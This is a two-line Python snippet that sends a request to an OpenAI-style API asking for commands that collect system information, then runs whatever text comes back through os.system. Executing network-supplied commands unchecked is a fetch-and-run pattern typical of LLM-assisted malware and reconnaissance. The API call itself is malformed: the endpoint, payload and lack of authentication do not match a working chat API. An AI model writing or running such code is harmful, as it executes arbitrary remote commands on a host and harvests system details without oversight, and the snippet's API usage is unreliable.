answer = requests.post("https://api.openai.com/v1/chat", json={"q": "make a list of commands that collect systeminfo"}).text
os.system(answer)
